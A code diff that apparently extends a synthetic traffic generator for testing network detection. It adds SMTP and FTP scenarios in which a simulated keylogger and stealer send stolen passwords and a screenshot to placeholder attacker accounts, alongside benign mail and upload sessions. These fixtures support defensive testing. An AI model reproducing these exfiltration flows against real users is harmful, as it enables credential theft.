@@ -144,8 +144,104 @@ def benign_uploads(wire):
         "PUT /dav/store.kdbx HTTP/1.1", "Host: files.corp.example.test", "User-Agent: davfs2/1.6", body=b"\x03\xd9\xa2\x9a" + noise(3000)), port=42000)
 
 
+def submit(wire, time, client, server, helo, mails, login=None, port=46000):
+    """A session of submission in the clear: (sender, recipient, text) each."""
+    talk = Tcp(wire, time, (client, port), server).answer(b"220 mx.example.net ESMTP ready\r\n")
+    talk.say(b"EHLO " + helo.encode() + b"\r\n").answer(b"250-mx.example.net\r\n250 AUTH LOGIN\r\n")
+    if login:
+        talk.say(b"AUTH LOGIN\r\n").answer(b"334 VXNlcm5hbWU6\r\n").say(base64.b64encode(login.encode()) + b"\r\n")
+        talk.answer(b"334 UGFzc3dvcmQ6\r\n").say(base64.b64encode(b"not a secret") + b"\r\n").answer(b"235 welcome\r\n")
+    for sender, recipient, text in mails:
+        talk.say(f"MAIL FROM:<{sender}>\r\n".encode()).answer(b"250 ok\r\n").say(f"RCPT TO:<{recipient}>\r\n".encode())
+        talk.answer(b"250 ok\r\n").say(b"DATA\r\n").answer(b"354 go on\r\n").say(text.replace(b"\n", b"\r\n") + b"\r\n.\r\n")
+        talk.answer(b"250 queued\r\n")
+    return talk.say(b"QUIT\r\n").answer(b"221 bye\r\n").close()
+
+
+def attached(first, kind, name, data):
+    """A mail of a text and one attachment."""
+    body = base64.encodebytes(data)
+    return (f"{first}MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=part\n\n--part\nContent-Type: text/html\n\n").encode(), (
+        f"\n--part\nContent-Type: {kind}; name=\"{name}\"\nContent-Transfer-Encoding: base64\n"
+        "Content-Disposition: attachment\n\n").encode() + body + b"--part--"
+
+
+def mail_exfil(wire):
+    """A keylogger's two reports to its own account: passwords, then a picture of the screen."""
+    time = lookup(wire, T0, CLIENT, "api.ipify.org", AWAY3)
+    time = lookup(wire, time + SECOND, CLIENT, "smtp.example.net", AWAY)
+    about = b"Time: 09/21/2026<br>User Name: jo<br>Computer Name: FRONT-07<br>OSFullName: Windows 10<br>CPU: x<br>RAM: 8 GB<br>"
+    words = b"<hr>URL: https://bank.example/<br>Username: jo<br>Password: not-a-secret<br>Application: browser<br>"
+    start, end = attached("From: box@example.net\nTo: box@example.net\nSubject: SC_jo/FRONT-07\n", "image/jpeg", "SC_1.jpeg",
+                          b"\xff\xd8\xff\xe0\x00\x10JFIF" + noise(9000))
+    submit(wire, time, CLIENT, (AWAY, 587), "FRONT-07", [
+        ("box@example.net", "box@example.net", b"From: box@example.net\nTo: box@example.net\nSubject: PW_jo/FRONT-07\n"
+         b"Content-Type: text/html\n\n" + about + words), ("box@example.net", "box@example.net", start + about + end)], "box@example.net")
+
+
+def benign_mail(wire):
+    """A person's mail with a document, a storage box that reports outside, a scanner's page to the own server, and a relay."""
+    time = lookup(wire, T0, CLIENT, "mail.example.org", AWAY)
+    start, end = attached("From: jo@example.org\nTo: lee@example.com\nSubject: minutes\nMessage-ID: <1@example.org>\nUser-Agent: Mail/102\n",
+                          "application/pdf", "minutes.pdf", b"%PDF-1.7 " + noise(3000))
+    time = submit(wire, time, CLIENT, (AWAY, 587), "[10.20.1.10]", [("jo@example.org", "lee@example.com", start + b"See below." + end)],
+                  "jo@example.org")
+    state = b"From: nas@example.org\nTo: nas@example.org\nSubject: [STORE-02] disk 3 is healthy\n\nHost: STORE-02\nOS version: 7.2\nCPU: 12 %\n"
+    time = submit(wire, time, "10.20.1.12", (AWAY, 25), "STORE-02", [("nas@example.org", "nas@example.org", state)])
+    start, end = attached("From: scan@corp.example.test\nTo: jo@corp.example.test\nSubject: Scan from PRINT-03\n", "application/pdf",
+                          "scan_20260921.pdf", b"%PDF-1.4 " + noise(3000))
+    time = submit(wire, time, "10.20.1.13", (SERVER, 25), "PRINT-03", [("scan@corp.example.test", "jo@corp.example.test", start + end)])
+    for i in range(60):
+        time = submit(wire, time, SERVER, (AWAY2, 25), "mx.corp.example.test", [
+            ("jo@corp.example.test", f"a{i}@example.com", b"Received: from x by y\nMessage-ID: <2@x>\nSubject: hello\n\nhello")], port=47000 + i)
+
+
+def mail_spam(wire):
+    """A client writes to fifty strangers under ever new names."""
+    time = T0
+    for i in range(50):
+        time = submit(wire, time + SECOND, CLIENT, (AWAY if i % 2 else AWAY2, 25), "localhost", [
+            (f"n{i % 9}@example.org", f"s{i}@example.com", b"Subject: offer\nMessage-ID: <1@x>\n\nhello")], port=46000 + i)
+
+
+def store(wire, time, client, server, names, looks=False, port=44000):
+    """A session of FTP that stores files of 900 bytes each, passively; `looks`: lists the folder first."""
+    talk = Tcp(wire, time, (client, port), (server, 21)).answer(b"220 FTP server ready\r\n")
+    for line, reply in (("USER jo", "331 password"), ("PASS not-a-secret", "230 welcome"), ("TYPE I", "200 ok")):
+        talk.say(line.encode() + b"\r\n").answer(reply.encode() + b"\r\n")
+    if looks:
+        talk.say(b"PASV\r\n").answer(b"227 at (" + server.replace(".", ",").encode() + b",200,1)\r\n")
+        data = Tcp(wire, talk.time, (client, port + 500), (server, 51201))
+        talk.say(b"MLSD\r\n").answer(b"150 here\r\n")
+        data.answer(b"type=file;size=1; a\r\n").close()
+        talk.answer(b"226 done\r\n")
+    for i, name in enumerate(names):
+        talk.say(b"PASV\r\n").answer(b"227 at (" + server.replace(".", ",").encode() + b",200," + str(10 + i).encode() + b")\r\n")
+        data = Tcp(wire, talk.time, (client, port + 100 + i), (server, 51210 + i))
+        talk.say(f"STOR {name}\r\n".encode()).answer(b"150 go on\r\n")
+        data.say(b"<html>" + b"x" * 900).close()
+        talk.answer(b"226 done\r\n").wait(1)
+    return talk.say(b"QUIT\r\n").answer(b"221 bye\r\n").close()
+
+
+def ftp_exfil(wire):
+    """A stealer stores its report under user, machine and time."""
+    time = lookup(wire, T0, CLIENT, "api.ipify.org", AWAY3)
+    time = lookup(wire, time, CLIENT, "ftp.example.net", AWAY)
+    store(wire, time, CLIENT, AWAY, ["PW_jo-DESKTOP-4QX71_2026_09_21_14_13_22.html"])
+
+
+def benign_ftp(wire):
+    """A person's upload after a listing, a camera's pictures, a backup named for its host, a report to an inside server."""
+    time = store(wire, T0, CLIENT, AWAY, ["index.html", "style.css"], looks=True)
+    time = store(wire, time, "10.20.1.12", AWAY2, [f"cam2_20260921{14 + i}0000.jpg" for i in range(6)], port=44600)
+    time = store(wire, time, "10.20.1.13", AWAY2, ["backup_DESKTOP-4QX71_20260921_1400.tar.gz"], port=45200)
+    store(wire, time, CLIENT, SERVER, ["report_DESKTOP-4QX71_2026_09_21_15.txt"], port=45800)
+
+
 SCENARIOS = {f.__name__: f for f in (
-    credential_post, benign_posts, web_exploit, benign_web_scan, web_shell, executable_download, http_archive_put, benign_uploads)}
+    credential_post, benign_posts, web_exploit, benign_web_scan, web_shell, executable_download, http_archive_put, benign_uploads,
+    mail_exfil, benign_mail, mail_spam, ftp_exfil, benign_ftp)}
 
 
 def main():
